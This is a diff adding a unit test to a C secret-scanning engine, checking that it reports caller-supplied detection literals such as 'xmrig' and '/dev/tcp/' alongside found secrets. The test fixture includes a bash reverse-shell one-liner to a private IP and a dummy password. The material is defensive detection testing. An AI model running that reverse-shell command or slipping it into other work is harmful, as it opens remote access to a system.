@@ -12,6 +12,8 @@
 
 #include <cmocka.h>
 
+#include <hs/hs.h>
+
 #include "secrets/secrets.h"
 
 struct hits {
@@ -337,6 +339,87 @@ static void engine__the_allowlist_skips_paths_rules_and_values(void **state)
     unlink(path);
 }
 
+/* Which literals a scan reported, and how often. */
+struct lit_hits {
+    unsigned count[4];
+};
+
+static void on_lit(void *ctx, size_t k)
+{
+    struct lit_hits *l = ctx;
+    assert_true(k < 4);
+    l->count[k]++;
+}
+
+/* Stream `n` bytes as `path` in chunks of `step`, counting literal and secret hits. */
+static void stream_lits(struct customs_secret_scanner *sc, const char *path, const char *p,
+                        size_t n, size_t step, struct lit_hits *l, struct hits *h)
+{
+    memset(l, 0, sizeof(*l));
+    customs_secret_on_literal(sc, on_lit, l);
+    assert_int_equal(customs_secret_begin(sc, path, n), 0);
+    for (size_t off = 0; off < n; off += step) {
+        assert_int_equal(customs_secret_feed(sc, p + off, n - off < step ? n - off : step), 0);
+    }
+    assert_int_equal(customs_secret_end(sc, collect, h), 0);
+}
+
+/* Another analyzer's literals ride in the rules' pass: each is reported once per file where it
+ * occurs (caseless when asked, across chunks, in binary files too, NUL bytes and regex
+ * characters taken literally), not in files that are not streamed, and the secrets found are
+ * those of the engine without them. */
+static void engine__reports_the_callers_literals_beside_the_secrets(void **state)
+{
+    static const char *const texts[] = {"xmrig", "a\0b", "/dev/tcp/", "(.*)"};
+    static const size_t lens[] = {5, 3, 9, 4};
+    static const unsigned flags[] = {HS_FLAG_CASELESS, 0, 0, 0};
+    const struct customs_secret_literals lits = {4, texts, lens, flags};
+    struct customs_secret_engine *e = NULL;
+    struct customs_secret_scanner *sc = NULL;
+    struct customs_error err = {0};
+    struct lit_hits l;
+    struct hits h = {0}, plain = {0};
+    (void)state;
+    assert_int_equal(customs_secret_engine_new_with(&e, NULL, NULL, &lits, &err), 0);
+    assert_int_equal(customs_secret_scanner_new(&sc, e), 0);
+    const char *txt = "XMRig here, xmrig there\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
+                      "db_password = \"Zq8vKr2LmW4pTx\"\n";
+    for (size_t step = 1; step <= strlen(txt); step += 7) {
+        memset(&h, 0, sizeof(h));
+        stream_lits(sc, "/app/config.py", txt, strlen(txt), step, &l, &h);
+        assert_int_equal(l.count[0], 1);
+        assert_int_equal(l.count[1], 0);
+        assert_int_equal(l.count[2], 1);
+        assert_int_equal(l.count[3], 0);
+        assert_int_equal(h.n, 1);
+        assert_string_equal(h.ids[0], "generic-password-assignment");
+        assert_true(customs_secret_streams_literals(sc));
+    }
+    scan_text(scanner, "/app/config.py", txt, &plain);
+    assert_int_equal(plain.n, 1);
+    assert_string_equal(plain.ids[0], h.ids[0]);
+    assert_int_equal(plain.lines[0], h.lines[0]);
+    /* a binary file: key material only, but every literal */
+    static const char bin[] = "\0ELF a\0b (.*) /dev/tcp db_password = \"Zq8vKr2LmW4pTx\"\0";
+    memset(&h, 0, sizeof(h));
+    stream_lits(sc, "/usr/bin/x", bin, sizeof(bin), 5, &l, &h);
+    assert_int_equal(l.count[0], 0);
+    assert_int_equal(l.count[1], 1);
+    assert_int_equal(l.count[2], 0);
+    assert_int_equal(l.count[3], 1);
+    assert_int_equal(h.n, 0);
+    /* a documentation path is not streamed: the caller searches its literals itself */
+    stream_lits(sc, "/usr/share/doc/x/README", txt, strlen(txt), 64, &l, &h);
+    assert_false(customs_secret_streams_literals(sc));
+    assert_int_equal(l.count[0] + l.count[2], 0);
+    /* without literals: nothing to report, and the scanner says so */
+    assert_int_equal(customs_secret_begin(scanner, "/app/config.py", 3), 0);
+    assert_false(customs_secret_streams_literals(scanner));
+    assert_int_equal(customs_secret_end(scanner, collect, &h), 0);
+    customs_secret_scanner_free(sc);
+    customs_secret_engine_free(e);
+}
+
 static void redact__keeps_a_few_characters_and_the_length(void **state)
 {
     char out[64];
@@ -359,6 +442,7 @@ int main(void)
         cmocka_unit_test(engine__confirms_long_matches_and_each_match_of_a_rule),
         cmocka_unit_test(engine__every_rule_regex_compiles_and_bad_user_rules_fail_early),
         cmocka_unit_test(engine__the_allowlist_skips_paths_rules_and_values),
+        cmocka_unit_test(engine__reports_the_callers_literals_beside_the_secrets),
         cmocka_unit_test(redact__keeps_a_few_characters_and_the_length),
     };
     return cmocka_run_group_tests(tests, setup, teardown);
